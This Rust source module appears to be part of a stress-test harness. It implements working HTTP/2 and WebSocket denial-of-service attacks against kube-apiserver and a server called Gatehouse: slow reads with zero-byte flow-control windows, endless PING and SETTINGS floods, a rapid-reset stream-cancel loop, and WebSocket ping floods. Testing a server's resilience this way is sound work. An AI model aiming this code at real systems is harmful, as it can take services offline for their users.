//! What a user does who may see the views, and reads nothing of what is answered.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::client::TlsStream;

use super::crowd::{Counts, Target};

/// What kube-apiserver and Gatehouse take at a time from a connection.
const STREAMS: u32 = 250;
/// How long a peer waits whom nobody ends.
const HELD: Duration = Duration::from_mins(5);
/// Written at a time.
const BATCH: usize = 64 << 10;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What somebody does who does not read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Attack {
    /// Asks for lists, and lets no byte of a body through.
    Closed,
    /// Asks for lists, and lets one byte of each through.
    Ajar,
    /// Asks for pages, each of which is one piece, and lets one byte of each through.
    Page,
    /// Asks for what there is not, likewise.
    Refused,
    /// Pings of HTTP/2 without end.
    Pings,
    /// Settings of HTTP/2 without end, each of which is acknowledged.
    Settings,
    /// Requests that are taken back at once, without end.
    Resets,
    /// Pings through a WebSocket without end.
    WebSocket,
    /// The same through kube-apiserver.
    ProxiedWebSocket,
    /// Lists through kube-apiserver.
    Proxied,
}

/// Where it is done.
#[derive(Clone)]
pub(super) struct Unread {
    pub(super) direct: Target,
    /// The same by another user, whose requests are not refused for what the first one holds.
    pub(super) direct_too: Target,
    pub(super) proxied: Target,
    /// The path of a list that is longer than what HTTP/2 holds of it.
    pub(super) list: String,
    /// The path of a page of it.
    pub(super) page: String,
}

impl Unread {
    /// Returns when the server has ended it.
    pub(super) async fn attack(&self, attack: Attack, counts: Counts<Attack>) -> anyhow::Result<()> {
        match attack {
            Attack::WebSocket => self.web_socket(&self.direct, attack, counts).await,
            Attack::ProxiedWebSocket => self.web_socket(&self.proxied, attack, counts).await,
            Attack::Proxied => {
                // kube-apiserver has limits of its own, for everything that this user asks of it.
                self.requests(&self.proxied, &self.list, 1, 20, || counts.took_place(attack)).await
            }
            Attack::Closed => {
                self.requests(&self.direct, &self.list, 0, STREAMS, || counts.took_place(attack)).await
            }
            Attack::Ajar => {
                self.requests(&self.direct, &self.list, 1, STREAMS, || counts.took_place(attack)).await
            }
            Attack::Page => {
                self.requests(&self.direct_too, &self.page, 1, STREAMS, || counts.took_place(attack)).await
            }
            Attack::Refused => {
                let missing = format!("{}/missing", self.list);
                self.requests(&self.direct, &missing, 1, STREAMS, || counts.took_place(attack)).await
            }
            Attack::Pings => {
                let mut stream = self.direct.stream("h2").await?;
                stream.write_all(&[PREFACE, &settings(0)].concat()).await?;
                counts.took_place(attack);
                without_end(&mut stream, &frame(6, 0, 0, &[7; 8])).await;
                Ok(())
            }
            Attack::Settings => {
                let mut stream = self.direct.stream("h2").await?;
                stream.write_all(PREFACE).await?;
                counts.took_place(attack);
                without_end(&mut stream, &settings(0)).await;
                Ok(())
            }
            Attack::Resets => {
                let mut stream = self.direct.stream("h2").await?;
                stream.write_all(&[PREFACE, &settings(0)].concat()).await?;
                counts.took_place(attack);
                let mut ids = (1..i32::MAX.unsigned_abs()).step_by(2);
                loop {
                    let some = ids.by_ref().take(100);
                    let cancel = |id| [head(id, &self.list), frame(3, 0, id, &8u32.to_be_bytes())].concat();
                    stream.write_all(&some.flat_map(cancel).collect::<Vec<_>>()).await?;
                }
            }
        }
    }

    /// So many requests through one connection, of whose answers `window` bytes each may be sent.
    async fn requests(
        &self,
        target: &Target,
        path: &str,
        window: u32,
        streams: u32,
        took_place: impl Fn(),
    ) -> anyhow::Result<()> {
        let mut stream = target.stream("h2").await?;
        let mut asked = [PREFACE, &settings(window)].concat();
        asked.extend((0..streams).flat_map(|number| head(2 * number + 1, path)));
        stream.write_all(&asked).await?;
        (0..streams).for_each(|_| took_place());
        // Heads of answers and pings are taken, and nothing is said to them.
        let ended = async { while stream.read(&mut [0; 4096]).await.is_ok_and(|length| length > 0) {} };
        let _ = timeout(HELD, ended).await;
        Ok(())
    }

    async fn web_socket(
        &self,
        target: &Target,
        attack: Attack,
        counts: Counts<Attack>,
    ) -> anyhow::Result<()> {
        let mut stream = target.stream("http/1.1").await?;
        let request = format!(
            "GET {}?watch=true HTTP/1.1\r\nhost: localhost\r\nconnection: Upgrade\r\nupgrade: websocket\r\n\
             sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
            self.list
        );
        stream.write_all(request.as_bytes()).await?;
        let mut answer = [0; 12];
        stream.read_exact(&mut answer).await?;
        anyhow::ensure!(&answer == b"HTTP/1.1 101", "{answer:?}");
        counts.took_place(attack);
        // A ping of 125 bytes, masked by zeros.
        let ping = [&[0x89, 0x80 | 0x7d, 0, 0, 0, 0], [7; 125].as_slice()].concat();
        without_end(&mut stream, &ping).await;
        Ok(())
    }
}

/// Writes the same until the other side ends it.
async fn without_end(stream: &mut TlsStream<TcpStream>, bytes: &[u8]) {
    let many = bytes.repeat(BATCH / bytes.len());
    while timeout(HELD, stream.write_all(&many)).await.is_ok_and(|written| written.is_ok()) {}
}

/// The client's settings: how much of each answer may be sent before it says more.
fn settings(window: u32) -> Vec<u8> {
    frame(4, 0, 0, &[&4u16.to_be_bytes()[..], &window.to_be_bytes()].concat())
}

/// A GET, without a body.
fn head(stream: u32, path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| {
        let length = u8::try_from(value.len()).ok().filter(|length| *length < 127).expect("a short text");
        [&[name, length], value.as_bytes()].concat()
    };
    // GET and https by their index; path and authority with a value, not to be indexed.
    let block = [vec![0x82, 0x87], literal(0x04, path), literal(0x01, "localhost")].concat();
    let (end_stream, end_headers) = (1, 4);
    frame(1, end_stream | end_headers, stream, &block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
